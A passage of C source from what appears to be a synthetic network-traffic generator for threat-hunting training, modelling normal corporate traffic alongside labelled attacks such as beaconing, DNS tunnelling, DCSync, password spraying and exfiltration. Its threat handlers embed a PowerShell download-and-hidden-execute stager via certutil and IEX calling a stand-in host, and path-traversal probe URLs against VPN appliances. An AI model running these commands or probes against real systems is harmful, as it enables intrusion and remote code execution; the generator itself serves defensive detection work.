    struct gen_hunt *h;
    struct world *w;
    const struct gen_cfg *c;
    uint64_t *id;
    gen_push_fn push;
    void *ctx;
};

static int put(struct spawn *x, struct sess *s, int tag)
{
    if (s)
        s->tag = (uint16_t)(tag + 1);
    return gen_sess_push(x->push, x->ctx, s);
}

static struct gen_script *script(struct spawn *x, const struct host *srv)
{
    struct gen_script *sc = gen_script_new(x->w);
    if (sc && srv)
        sc->srv = *srv;
    return sc;
}

static int play(struct spawn *x, int64_t t, struct host *cli, struct host *srv, uint8_t proto,
                uint16_t port, int kind, struct gen_script *sc, int tag, int bulk)
{
    if (!sc)
        return KS_ENOMEM;
    struct sess *s =
        gen_sess_scripted(x->w, x->c, &x->h->r, t, x->id, cli, srv, proto, port, kind, sc);
    if (!s)
        return sc->data.err ? sc->data.err : KS_EFORMAT;
    if (bulk) {
        s->snap = 1;
        if (bulk > 1)
            s->mss = GEN_GRO_MSS;
    }
    return put(x, s, tag);
}

/* A lookup of name at the DC; *t moves to just after the answer. */
static int lookup(struct spawn *x, int64_t *t, struct host *cli, const char *name,
                  const struct host *target)
{
    struct sess *s =
        gen_sess_dns(x->w, x->c, &x->h->r, *t, x->id, cli, &x->h->dc, name, 1, target, 0);
    if (!s)
        return KS_ENOMEM;
    *t = s->t + s->rtt + (int64_t)gen_rng_range(&x->h->r, 200 * US, 4 * MS);
    return put(x, s, -1);
}

/* A web session with sizes [lo, hi] per response; bulk: coalesced segments. */
static struct sess *web(struct spawn *x, int64_t t, struct host *cli, struct host *srv, int kind,
                        int variant, uint32_t lo, uint32_t hi)
{
    struct sess *s = gen_sess_web(x->w, x->c, &x->h->r, t, x->id, cli, srv, kind, variant);
    if (!s)
        return NULL;
    s->snap = 1;
    if (variant == V_NORMAL) {
        s->nex = (uint16_t)gen_rng_range(&s->rng, 2, 4);
        s->resp_size[0] = lo;
        s->resp_size[1] = hi;
    } else if (variant == V_BULK) {
        s->resp_size[0] = lo;
        s->resp_size[1] = hi;
        s->mss = GEN_GRO_MSS;
    } else if (variant == V_UPLOAD) {
        s->req_size[0] = lo;
        s->req_size[1] = hi;
        s->mss = GEN_GRO_MSS;
    }
    return s;
}

static struct host *client(struct gen_hunt *h, uint32_t a)
{
    if (a < NWS)
        return &h->ws[a];
    if (a == NWS)
        return &h->admin;
    return &h->aff[(a - NWS - 1) % NAFF];
}

static int do_browse(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    struct host *cli = &h->ws[e->a];
    int64_t t = e->t;
    int rc = 0;
    if (gen_rng_chance(r, 120)) {
        struct host *srv = &x->w->plain[gen_rng_popular(r, x->w->nplain)];
        /* Windows desktops fetch no Debian packages; the update host is h->upd. */
        if (strstr(srv->name, "debian") || strstr(srv->name, "ubuntu") ||
            strstr(srv->name, "windowsupdate"))
            srv = &x->w->plain[0];
        if (gen_rng_chance(r, 500) && (rc = lookup(x, &t, cli, srv->name, srv)))
            return rc;
        return put(x, web(x, t, cli, srv, K_HTTP, V_NORMAL, 200, 30000), -1);
    }
    struct host *srv = &x->w->web[gen_rng_popular(r, x->w->nweb)];
    if (gen_rng_chance(r, 500) && (rc = lookup(x, &t, cli, srv->name, srv)))
        return rc;
    return put(x, web(x, t, cli, srv, K_TLS, V_NORMAL, 200, 24000), -1);
}

static int do_update(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    char uri[96];
    snprintf(uri, sizeof(uri), "/msdownload/update/v3/static/trustedr/en/authrootseq.txt");
    struct gen_script *sc = script(x, &h->upd);
    if (!sc)
        return KS_ENOMEM;
    struct hunt_http q = {.method = "GET",
                          .host = h->upd.name,
                          .uri = uri,
                          .ua = "Microsoft-CryptoAPI/10.0",
                          .req_headers = "Accept: */*\r\nCache-Control: max-age = 86400\r\n",
                          .status = 200,
                          .ctype = "text/plain",
                          .resp_text = "1D9A6C4F2B3E8A07\r\n",
                          .server = "ECAcc (lac/55B8)"};
    hunt_http(sc, e->t, &q);
    return play(x, e->t, &h->ws[e->a], &h->upd, 6, 80, K_HTTP, sc, h->i_update, 0);
}

static int do_do(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    char uri[200], rng_hdr[96];
    uint32_t n = (uint32_t)gen_rng_range(r, 1u << 20, 6u << 20);
    snprintf(uri, sizeof(uri),
             "/filestreamingservice/files/%08x-%04x-%04x-%04x-%08x%04x?P1=%u&P2=404&P3=2&P4=%08x",
             (unsigned)gen_rng_next(r), (unsigned)gen_rng_below(r, 65536),
             (unsigned)gen_rng_below(r, 65536), (unsigned)gen_rng_below(r, 65536),
             (unsigned)gen_rng_next(r), (unsigned)gen_rng_below(r, 65536),
             (unsigned)(1709500000 + gen_rng_below(r, 300000)), (unsigned)gen_rng_next(r));
    snprintf(rng_hdr, sizeof(rng_hdr), "Range: bytes=0-%u\r\nConnection: Keep-Alive\r\n",
             (unsigned)(n - 1));
    struct gen_script *sc = script(x, &h->dosrv);
    if (!sc)
        return KS_ENOMEM;
    struct hunt_http q = {.method = "GET",
                          .host = h->dosrv.name,
                          .uri = uri,
                          .ua = "Microsoft-Delivery-Optimization/10.0",
                          .req_headers = rng_hdr,
                          .status = 206,
                          .ctype = "application/octet-stream",
                          .resp_len = n,
                          .server = "AkamaiNetStorage"};
    hunt_http(sc, e->t, &q);
    return play(x, e->t, &h->ws[e->a], &h->dosrv, 6, 80, K_HTTP, sc, h->i_do, 2);
}

static int do_intra(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    int aff = e->a > NWS;
    int kind = gen_rng_chance(&h->r, 500) ? K_TLS : K_HTTP;
    struct sess *s = web(x, e->t, client(h, e->a), &h->intra, kind, V_NORMAL, 300, 12000);
    return put(x, s, aff ? h->i_intra_aff : -1);
}

/* A file name on the share: projects, R&D, finance … */
static void share_file(struct rng *r, char *dst, size_t n, int rnd)
{
    static const char *const dirs[] = {"Projects\\Atlas", "Projects\\Nova", "Finance\\2024",
                                       "HR\\Templates",   "Sales\\Quotes",  "Marketing"};
    static const char *const rd[] = {"R&D\\Patents", "R&D\\Prototype-X7", "R&D\\Lab-Results"};
    static const char *const ext[] = {"docx", "xlsx", "pdf", "pptx"};
    if (rnd)
        snprintf(dst, n, "%s\\%s-%03u.%s", rd[gen_rng_below(r, 3)],
                 gen_rng_chance(r, 500) ? "patent-draft" : "design-spec",
                 (unsigned)gen_rng_below(r, 1000), ext[gen_rng_below(r, 4)]);
    else
        snprintf(dst, n, "%s\\report-%03u.%s", dirs[gen_rng_below(r, 6)],
                 (unsigned)gen_rng_below(r, 1000), ext[gen_rng_below(r, 4)]);
}

/* An SMB session to FS01: nread documents read (and nwrite written) on \\FS01\share. */
static int smb_docs(struct spawn *x, int64_t t, struct host *cli, const char *user, uint32_t nread,
                    uint32_t nwrite, int rnd, int tag)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    struct gen_smb m;
    uint8_t fid[16];
    char name[160];
    struct gen_script *sc = script(x, &h->fs);
    if (!sc)
        return KS_ENOMEM;
    if (gen_smb_begin(&m, sc, r, t, user, "CORP", cli->name[0] ? cli->name : "WS"))
        sc->data.err = KS_ENOMEM;
    gen_smb_tree(&m, "\\\\FS01\\share", 0);
    for (uint32_t i = 0; i < nread + nwrite; i++) {
        share_file(r, name, sizeof(name), rnd);
        uint32_t size = (uint32_t)gen_rng_logu(r, 2048, rnd ? 32768 : 20480);
        gen_smb_open(&m, name, i < nread ? GEN_SMB_READ : GEN_SMB_WRITE, size, fid);
        for (uint32_t off = 0; off < size; off += 65536) {
            uint32_t k = size - off < 65536 ? size - off : 65536;
            if (i < nread)
                gen_smb_read(&m, fid, k, off);
            else
                gen_smb_write(&m, fid, k, off);
        }
        gen_smb_close(&m, fid);
    }
    gen_bb_printf(&sc->truth, ",\"smb_user\":\"%s\",\"files_read\":%u,\"files_written\":%u", user,
                  (unsigned)nread, (unsigned)nwrite);
    return play(x, t, cli, &h->fs, 6, 445, K_SMB, sc, tag, 0);
}

static int do_smb(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    const char *user = e->a < NWS ? users[e->a] : "adm.kato";
    return smb_docs(x, e->t, client(h, e->a), user, (uint32_t)gen_rng_range(r, 2, 4),
                    (uint32_t)gen_rng_below(r, 2), 0, h->i_share);
}

static int do_logon(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct gen_script *sc = script(x, &h->dc);
    if (!sc)
        return KS_ENOMEM;
    hunt_krb(sc, &h->r, e->t, e->a < NWS ? users[e->a] : "adm.kato", 0);
    return play(x, e->t, client(h, e->a), &h->dc, 17, 88, K_KRB, sc, h->i_logon, 0);
}

static int do_cdn(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    char name[96];
    uint32_t p = gen_rng_below(r, 3);
    if (p == 0)
        snprintf(name, sizeof(name), "e%u.dscb.akamaiedge.net", (unsigned)gen_rng_below(r, 9999));
    else if (p == 1)
        snprintf(name, sizeof(name), "e%u.a.akamaiedge.net", (unsigned)gen_rng_below(r, 9999));
    else
        snprintf(name, sizeof(name), "d%07x.cloudfront.net", (unsigned)gen_rng_below(r, 1u << 28));
    struct host *target = &x->w->web[gen_rng_below(r, x->w->nweb)];
    struct sess *s =
        gen_sess_dns(x->w, x->c, r, e->t, x->id, &h->ws[e->a], &h->dc, name, 1, target, 0);
    return put(x, s, p < 2 ? h->i_cdn : -1);
}

static int do_nxnoise(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    static const char *const typos[] = {"outlok.office365.com", "gogle.com", "teams.microsft.com",
                                        "intranet.corp.exmaple", "www.linkedln.com"};
    const char *name = e->b ? typos[gen_rng_below(&h->r, 5)] : "wpad.corp.example";
    struct sess *s =
        gen_sess_dns(x->w, x->c, &h->r, e->t, x->id, &h->ws[e->a], &h->dc, name, 1, NULL, 1);
    return put(x, s, e->b ? h->i_typo : h->i_wpad);
}

static int do_mon(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct host *srv[10] = {&h->dc,     &h->fs,     &h->mft,    &h->intra,  &h->app[0],
                            &h->app[1], &h->app[2], &h->app[3], &h->app[4], &h->app[5]};
    static const uint16_t port[10] = {445, 445, 22, 80, 3389, 3389, 445, 445, 3389, 22};
    struct sess *s = gen_sess_tcp(x->w, x->c, &h->r, e->t, x->id, &h->mon, srv[e->b % 10],
                                  port[e->b % 10], K_CONNECT);
    if (s) {
        s->nex = 0;
        s->close_how = C_RST; /* the check closes with a reset, like most probes */
    }
    return put(x, s, h->i_mon);
}

static int do_vpnuser(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct sess *s =
        web(x, e->t, &h->vpnu[e->a % NVPN], &h->vpn, K_TLS, e->b ? V_LONG : V_NORMAL, 400, 30000);
    if (s && e->b)
        s->end_at = e->t + (int64_t)gen_rng_range(&s->rng, 3 * 60, 20 * 60) * SEC;
    return put(x, s, h->i_vpnu);
}

static int do_partner(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    return put(x, web(x, e->t, &h->part[e->a], &h->mft, K_TLS, V_BULK, 300u << 10, 3u << 20),
               h->i_part[e->a]);
}

static int do_telem(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    struct host *srv = &h->telem[e->b & 1];
    uint32_t app[2][2] = {{(uint32_t)gen_rng_range(r, 600, 4000), 120},
                          {(uint32_t)gen_rng_range(r, 200, 900), 90}};
    struct gen_script *sc = script(x, srv);
    if (!sc)
        return KS_ENOMEM;
    if (hunt_tls(sc, x->w, r, &h->leaf_telem[e->b & 1], srv->name, &hunt_tls_schannel, NULL, 0,
                 (const uint32_t(*)[2])app, 2))
        sc->data.err = KS_EFORMAT;
    return play(x, e->t, &h->ws[e->a], srv, 6, 443, K_TLS, sc, h->i_telem, 0);
}

static int do_ilo(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    static const uint32_t app[3][2] = {{520, 5400}, {480, 2100}, {610, 880}};
    struct gen_script *sc = script(x, &h->ilo);
    if (!sc)
        return KS_ENOMEM;
    /* The admin's browser in IE mode: an SChannel hello like every Windows client's. */
    if (hunt_tls(sc, x->w, &h->r, &h->ilo_cert, h->ilo.name, &hunt_tls_schannel, NULL, 0, app, 3))
        sc->data.err = KS_EFORMAT;
    return play(x, e->t, &h->admin, &h->ilo, 6, 443, K_TLS, sc, h->i_ilo, 0);
}

static int do_admwinrm(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct host *srv = &h->app[e->b % NAPP];
    struct gen_script *sc = script(x, srv);
    if (!sc)
        return KS_ENOMEM;
    if (hunt_winrm(sc, &h->r, e->t, srv->name, "adm.kato", "ADM-JUMP01",
                   (int)gen_rng_range(&h->r, 3, 6)))
        sc->data.err = KS_EFORMAT;
    return play(x, e->t, &h->admin, srv, 6, 5985, K_HTTP, sc, h->i_admwinrm, 0);
}

static int do_longish(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct host *srv = &x->w->web[gen_rng_chance(&h->r, 500) ? 3 : 2];
    struct sess *s = web(x, e->t, &h->ws[e->a], srv, K_TLS, V_LONG, 0, 0);
    if (s)
        s->end_at = e->t + (int64_t)gen_rng_range(&s->rng, 3 * 60, 15 * 60) * SEC;
    return put(x, s, srv == &x->w->web[3] ? h->i_longish : -1);
}

static int do_dropbox(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    int64_t t = e->t;
    int rc = lookup(x, &t, &h->ws[W_DROPBOX], h->dbx_www->name, h->dbx_www);
    if (rc)
        return rc;
    uint32_t hi = e->b == 2 ? 60u << 20 : 12u << 20;
    return put(x, web(x, t, &h->ws[W_DROPBOX], h->dbx_www, K_TLS, V_BULK, hi / 4, hi), h->i_dbx);
}

static int do_onedrive(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    (void)e;
    return put(x, web(x, e->t, &h->ws[W_EXFIL], h->onedrive, K_TLS, V_UPLOAD, 5u << 20, 15u << 20),
               h->i_onedrive);
}

static int do_backup(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    uint32_t lo = e->a ? 20u << 20 : 600u << 10, hi = e->a ? 30u << 20 : 1500u << 10;
    return put(x, web(x, e->t, &h->ws[W_EGRESS], &h->backup, K_TLS, V_UPLOAD, lo, hi),
               e->a ? h->i_egress : -1);
}

/* ------------------------------------------------------------------ threats */

static int do_beacon(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    int64_t t = e->t;
    int rc;
    if (e->b % 5 == 0 && (rc = lookup(x, &t, &h->ws[W_BEACON], h->c2.name, &h->c2)))
        return rc;
    uint32_t app[1][2] = {{(uint32_t)gen_rng_range(r, 300, 340),
                           (uint32_t)(gen_rng_chance(r, 900) ? 48 : gen_rng_range(r, 90, 160))}};
    struct gen_script *sc = script(x, &h->c2);
    if (!sc)
        return KS_ENOMEM;
    /* WinINet resumes its TLS session; a full handshake (with the certificate) when the
     * session is 10 minutes old. */
    int full = e->b % 10 == 0;
    if (full)
        gen_rng_fill(r, h->c2_sid, sizeof(h->c2_sid));
    if (hunt_tls(sc, x->w, r, &h->cs, h->c2.name, &hunt_tls_schannel, h->c2_sid, !full,
                 (const uint32_t(*)[2])app, 1))
        sc->data.err = KS_EFORMAT;
    return play(x, t, &h->ws[W_BEACON], &h->c2, 6, 443, K_TLS, sc, h->i_beacon, 0);
}

static int do_longconn(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    int64_t t = e->t;
    int rc = lookup(x, &t, &h->ws[W_LONG], h->tunnel.name, &h->tunnel);
    if (rc)
        return rc;
    struct sess *s = web(x, t, &h->ws[W_LONG], &h->tunnel, K_TLS, V_LONG, 0, 0);
    if (s)
        s->end_at = t + 8 * HOUR;
    return put(x, s, h->i_long);
}

static int do_rare(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    uint32_t app[2][2] = {{(uint32_t)gen_rng_range(r, 160, 240), 96},
                          {(uint32_t)gen_rng_range(r, 1800, 9000), 350}};
    int64_t t = e->t;
    int rc = lookup(x, &t, &h->ws[W_RARE], h->rare.name, &h->rare);
    if (rc)
        return rc;
    struct gen_script *sc = script(x, &h->rare);
    if (!sc)
        return KS_ENOMEM;
    if (hunt_tls(sc, x->w, r, &h->leaf_rare, h->rare.name, &hunt_tls_python, NULL, 0,
                 (const uint32_t(*)[2])app, 2))
        sc->data.err = KS_EFORMAT;
    return play(x, t, &h->ws[W_RARE], &h->rare, 6, 443, K_TLS, sc, h->i_rare, 0);
}

/* RFC 4648 base32 alphabet, lower case (DNS names are case-insensitive). */
static void base32(struct rng *r, char *dst, size_t n)
{
    static const char abc[] = "abcdefghijklmnopqrstuvwxyz234567";
    for (size_t i = 0; i < n; i++)
        dst[i] = abc[gen_rng_below(r, 32)];
    dst[n] = 0;
}

static int do_tunnel(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    char l1[64], l2[64], qname[200], txt[256];
    base32(r, l1, 52);
    base32(r, l2, (size_t)gen_rng_range(r, 30, 52));
    snprintf(qname, sizeof(qname), "%05x.%s.%s.t.tunnel-example.com", (unsigned)e->b, l1, l2);
    static const char hex[] = "0123456789abcdef";
    size_t n = (size_t)gen_rng_range(r, 120, 220);
    for (size_t i = 0; i < n; i++)
        txt[i] = hex[gen_rng_below(r, 16)];
    txt[n] = 0;
    struct gen_script *sc = script(x, &h->dc);
    if (!sc)
        return KS_ENOMEM;
    hunt_dns_txt(sc, r, qname, txt);
    return play(x, e->t, &h->ws[W_TUNNEL], &h->dc, 17, 53, K_DNS, sc, h->i_tunnel, 0);
}

static int do_dga(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct rng *r = &h->r;
    static const char *const tld[] = {"com", "net", "info"};
    char name[40];
    int l = (int)gen_rng_range(r, 12, 20);
    for (int i = 0; i < l; i++)
        name[i] = (char)('a' + gen_rng_below(r, 26));
    snprintf(name + l, sizeof(name) - (size_t)l, ".%s", tld[gen_rng_below(r, 3)]);
    struct sess *s =
        gen_sess_dns(x->w, x->c, r, e->t, x->id, &h->ws[W_DGA], &h->dc, name, 1, NULL, 1);
    return put(x, s, h->i_dga);
}

static const char ps1[] = "$ErrorActionPreference = 'SilentlyContinue'\r\n"
                          "$u = 'http://files.quick-share.example/update.exe'\r\n"
                          "$p = \"$env:TEMP\\\\svchost-upd.exe\"\r\n"
                          "certutil.exe -urlcache -split -f $u $p | Out-Null\r\n"
                          "Start-Process -WindowStyle Hidden -FilePath $p\r\n";

static int do_psdl(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    int64_t t = e->t;
    int rc = lookup(x, &t, &h->ws[W_HTTPCLI], h->dl.name, &h->dl);
    if (rc)
        return rc;
    struct gen_script *sc = script(x, &h->dl);
    if (!sc)
        return KS_ENOMEM;
    struct hunt_http q = {.method = "GET",
                          .host = h->dl.name,
                          .uri = e->b ? "/update.exe" : "/a.ps1",
                          .ua = e->b ? "Microsoft-CryptoAPI/10.0"
                                     : "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) "
                                       "WindowsPowerShell/5.1.19041.1682",
                          .req_headers = e->b ? "Accept: */*\r\nCache-Control: no-cache\r\n"
                                              : "Connection: Keep-Alive\r\n",
                          .status = 200,
                          .ctype = e->b ? "application/octet-stream" : "text/plain",
                          .resp_text = e->b ? NULL : ps1,
                          .resp_len = 358400,
                          .server = "nginx/1.18.0 (Ubuntu)"};
    hunt_http(sc, t, &q);
    return play(x, t, &h->ws[W_HTTPCLI], &h->dl, 6, 80, K_HTTP, sc, h->i_http, e->b ? 1 : 0);
}

static int do_exfil(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    int64_t t = e->t;
    int rc = lookup(x, &t, &h->ws[W_EXFIL], h->dbx_up.name, &h->dbx_up);
    if (rc)
        return rc;
    struct sess *s =
        web(x, t, &h->ws[W_EXFIL], &h->dbx_up, K_TLS, V_UPLOAD, 200000000u, 200000000u);
    if (s)
        s->ns_per_byte = 160; /* 50 Mbit/s */
    return put(x, s, h->i_exfil);
}

static int do_psexec(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct gen_script *sc = script(x, &h->fs);
    if (!sc)
        return KS_ENOMEM;
    if (gen_smb_psexec(sc, &h->r, e->t, users[W_PSEXEC], "CORP", h->ws[W_PSEXEC].name))
        sc->data.err = KS_EFORMAT;
    return play(x, e->t, &h->ws[W_PSEXEC], &h->fs, 6, 445, K_SMB, sc, h->i_psexec, 0);
}

static int do_remote(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct host *cli = &h->ws[W_REMOTE];
    const char *user = "adm.kato"; /* the stolen admin account */
    int64_t t = e->t;
    int rc;
    struct gen_script *sc;
    if (e->b == 0) {
        sc = script(x, &h->dc);
        if (!sc)
            return KS_ENOMEM;
        if (hunt_winrm(sc, &h->r, t, h->dc.name, user, cli->name, 4))
            sc->data.err = KS_EFORMAT;
        return play(x, t, cli, &h->dc, 6, 5985, K_HTTP, sc, h->i_remote, 0);
    }
    int drs = e->b == 2;
    uint16_t port = drs ? h->drs_port : h->tsch_port;
    sc = script(x, &h->dc);
    if (!sc)
        return KS_ENOMEM;
    if (hunt_epm(sc, &h->r, drs ? HUNT_IF_DRSUAPI : HUNT_IF_TSCH, h->dc.v4, port))
        sc->data.err = KS_EFORMAT;
    if ((rc = play(x, t, cli, &h->dc, 6, 135, K_DCERPC, sc, h->i_remote, 0)))
        return rc;
    t += 900 * MS;
    sc = script(x, &h->dc);
    if (!sc)
        return KS_ENOMEM;
    if (drs ? hunt_dcsync(sc, &h->r, t, port, user, cli->name, 6)
            : hunt_tsch(sc, &h->r, port, "\\Microsoft\\Windows\\WDI\\SrvSetupCheck",
                        "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient)."
                        "DownloadString('http://files.quick-share.example/a.ps1'))\""))
        sc->data.err = KS_EFORMAT;
    return play(x, t, cli, &h->dc, 6, port, K_DCERPC, sc, h->i_remote, 0);
}

static int do_scan(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    static const uint16_t ports[3] = {22, 445, 3389};
    int net10 = e->b >= 254 * 3;
    uint8_t host = (uint8_t)(net10 ? e->b - 254 * 3 + 1 : e->b / 3 + 1);
    uint16_t port = net10 ? 445 : ports[e->b % 3];
    struct host *dst = lan_host(h, net10, host);
    struct host *src = &h->ws[W_SCAN];
    int kind;
    if (dst == src)
        return 0; /* its own address */
    if (dst->name[0] == 0 || net10) {
        kind = K_SCAN; /* nobody there, or a workstation's firewall: no answer */
    } else {
        int win = dst->os == OS_WINDOWS;
        int open = win ? port != 22 : port == 22;
        kind = open ? K_CONNECT : K_REJECT;
    }
    struct sess *s = gen_sess_tcp(x->w, x->c, &h->r, e->t, x->id, src, dst, port, kind);
    if (s) {
        /* A connect scan: the OS's own SYN; open ports are closed again with a RST. */
        s->scan_syn = 0;
        s->synwin[0] = 64240;
        s->nex = 0;
        if (kind == K_CONNECT)
            s->close_how = C_RST;
    }
    return put(x, s, h->i_scan);
}

static int do_xzone(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct host *cli = &h->aff_evil;
    struct host *srv = e->b & 1 ? &h->dc : &h->fs;
    struct gen_script *sc = script(x, srv);
    if (!sc)
        return KS_ENOMEM;
    if (e->b < 2) {
        struct gen_smb m;
        uint8_t fid[16];
        char path[64];
        if (gen_smb_begin(&m, sc, &h->r, e->t, "svc-backup", "CORP", "AFF-PC23"))
            sc->data.err = KS_ENOMEM;
        snprintf(path, sizeof(path), "\\\\%s\\IPC$", e->b ? "DC01" : "FS01");
        gen_smb_tree(&m, path, 1);
        gen_smb_open(&m, "srvsvc", GEN_SMB_PIPE, 0, fid);
        gen_smb_close(&m, fid);
        snprintf(path, sizeof(path), "\\\\%s\\%s", e->b ? "DC01" : "FS01",
                 e->b ? "SYSVOL" : "share");
        gen_smb_tree(&m, path, 0);
        gen_smb_open(&m, e->b ? "corp.example\\Policies\\GptTmpl.inf" : "R&D\\index.xlsx",
                     GEN_SMB_READ, 6144, fid);
        gen_smb_read(&m, fid, 6144, 0);
        gen_smb_close(&m, fid);
        return play(x, e->t, cli, srv, 6, 445, K_SMB, sc, h->i_xzone, 0);
    }
    if (hunt_rdp(sc, x->w, &h->r, "administrator", &h->rdp_cert,
                 e->b & 1 ? "DC01.corp.example" : "FS01.corp.example"))
        sc->data.err = KS_EFORMAT;
    return play(x, e->t, cli, srv, 6, 3389, K_RDP, sc, h->i_xzone, 0);
}

static int do_collect(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    return smb_docs(x, e->t, &h->ws[W_COLLECT], users[W_COLLECT], 40, 0, 1, h->i_collect);
}

static int do_edge(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    static const struct {
        const char *uri;
        int status;
        uint32_t len;
    } probe[10] = {
        {"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 200, 8712},
        {"/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/"
         "guacamole/",
         404, 0},
        {"/vpn/../vpns/cfg/smb.conf", 404, 0},
        {"/+CSCOE+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua", 404, 0},
        {"/global-protect/portal/css/login.css", 404, 0},
        {"/remote/login?lang=en", 200, 2301},
        {"/api/v2/cmdb/system/admin/admin", 401, 0},
        {"/cgi-bin/webproc?getpage=../../../../etc/passwd", 404, 0},
        {"/dana-na/auth/url_default/welcome.cgi", 404, 0},
        {"/remote/fgt_lang?lang=/../../../../////////////////////////bin/sslvpnd", 200, 1024},
    };
    uint32_t k = e->b % 10;
    struct gen_script *sc = script(x, &h->vpn);
    if (!sc)
        return KS_ENOMEM;
    struct hunt_http q = {.method = "GET",
                          .host = "vpn.corp.example",
                          .uri = probe[k].uri,
                          .ua = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 "
                                "Firefox/115.0",
                          .req_headers = "Accept: */*\r\nConnection: close\r\n",
                          .status = probe[k].status,
                          .ctype = probe[k].len ? "application/octet-stream" : "text/html",
                          .resp_len = probe[k].len,
                          .server = "xxxxxxxx-xxxxx"};
    hunt_http(sc, e->t, &q);
    return play(x, e->t, &h->attacker, &h->vpn, 6, 80, K_HTTP, sc, h->i_edge, 0);
}

static int do_pivot(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct gen_script *sc = script(x, &h->dc);
    if (!sc)
        return KS_ENOMEM;
    if (e->b == 0) {
        struct gen_smb m;
        uint8_t fid[16];
        if (gen_smb_begin(&m, sc, &h->r, e->t, "svc-vpn", "CORP", "FGT-VPN01"))
            sc->data.err = KS_ENOMEM;
        gen_smb_tree(&m, "\\\\DC01\\IPC$", 1);
        gen_smb_open(&m, "lsarpc", GEN_SMB_PIPE, 0, fid);
        gen_smb_close(&m, fid);
        gen_smb_open(&m, "samr", GEN_SMB_PIPE, 0, fid);
        gen_smb_close(&m, fid);
        return play(x, e->t, &h->vpn, &h->dc, 6, 445, K_SMB, sc, h->i_edge, 0);
    }
    static const char *const admins[] = {"Administrator", "adm.kato", "adm.sasaki", "svc-backup",
                                         "svc-sql"};
    if (hunt_ldap(sc, &h->r, "CN=svc-vpn,OU=Service Accounts,DC=corp,DC=example",
                  "DC=corp,DC=example", "adminCount", "1", admins, 5))
        sc->data.err = KS_EFORMAT;
    return play(x, e->t, &h->vpn, &h->dc, 6, 389, K_LDAP, sc, h->i_edge, 0);
}

static int do_mft(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    return put(x, web(x, e->t, &h->thief, &h->mft, K_TLS, V_BULK, 5000000u, 5000000u), h->i_mft);
}

static int do_spray(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    static const char *const names[30] = {
        "administrator", "admin",       "a.sato",     "backup",   "guest",
        "test",          "j.smith",     "d.tanaka",   "svc_sql",  "scanner",
        "helpdesk",      "m.sasaki",    "it.support", "user1",    "reception",
        "k.yoshida",     "training",    "operator",   "webadmin", "f.ito",
        "sales",         "accounting",  "h.nakamura", "payroll",  "hr",
        "marketing",     "o.matsumoto", "ftpuser",    "print",    "vpnuser"};
    const char *user = names[e->b % 30];
    int known = 0;
    for (int i = 0; i < NWS; i++)
        known |= strcmp(users[i], user) == 0;
    known |= strcmp(user, "administrator") == 0;
    struct gen_script *sc = script(x, &h->dc);
    if (!sc)
        return KS_ENOMEM;
    hunt_krb(sc, &h->r, e->t, user, known ? 24 : 6);
    return play(x, e->t, &h->ws[W_SPRAY], &h->dc, 17, 88, K_KRB, sc, h->i_spray, 0);
}

typedef int (*ev_fn)(struct spawn *x, const struct hev *e);

static int do_ntp(struct spawn *x, const struct hev *e)
{
    struct gen_hunt *h = x->h;
    struct sess *s =
        gen_sess_ntp(x->w, x->c, &h->r, e->t, x->id, client(h, e->a), &h->ntp[e->b % 3]);
    return put(x, s, h->i_ntp[e->b % 3]);
}

static const ev_fn handlers[] = {
    [EV_BROWSE] = do_browse,     [EV_NTP] = do_ntp,
    [EV_UPDATE] = do_update,     [EV_DO] = do_do,
    [EV_INTRA] = do_intra,       [EV_SMB] = do_smb,
    [EV_LOGON] = do_logon,       [EV_CDN] = do_cdn,
    [EV_NXNOISE] = do_nxnoise,   [EV_MON] = do_mon,
